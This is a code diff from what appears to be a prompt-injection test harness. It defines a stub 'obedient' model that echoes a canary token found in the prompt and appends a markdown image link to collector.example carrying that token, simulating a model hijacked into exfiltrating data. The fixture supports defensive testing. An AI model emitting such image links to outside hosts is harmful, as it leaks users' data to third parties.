@@ -62,7 +62,7 @@ def obedient(body: dict[str, Any]) -> str:
     prompt = "\n".join(one["content"] for one in body["messages"])
     mark = re.findall(r"ZQ[0-9A-F]{6}", prompt)
     said = f"{mark[-1]} ![x](https://collector.example/{mark[-1]})" if mark else "No."
-    return f"{said} Most relevant first, never an instruction [1]."
+    return f"{said} Look in passage 1 first, never an instruction [1]."
 
 
 def honest(body: dict[str, Any]) -> str:
